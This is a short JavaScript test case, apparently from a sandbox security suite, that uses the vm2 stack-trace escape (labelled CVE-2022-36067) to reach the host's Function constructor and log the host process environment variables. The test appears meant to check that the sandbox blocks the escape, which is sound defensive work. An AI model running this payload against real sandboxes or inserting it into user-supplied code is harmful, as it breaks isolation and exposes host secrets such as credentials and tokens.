// Structured stack traces give functions and receivers of the callers, the host's included (vm2, CVE-2022-36067).
// expected-outcome: ok, failed
export default async function (event, context) {
  Error.prepareStackTrace = (error, sites) => sites
  const sites = new Error('x').stack
  for (const site of Array.isArray(sites) ? sites : []) {
    for (const found of [site.getThis?.(), site.getFunction?.()]) {
      const env = found?.constructor?.constructor?.('return this')()?.process?.env
      if (env) context.log(JSON.stringify(env))
    }
  }
  return { decision: 'allow' }
}
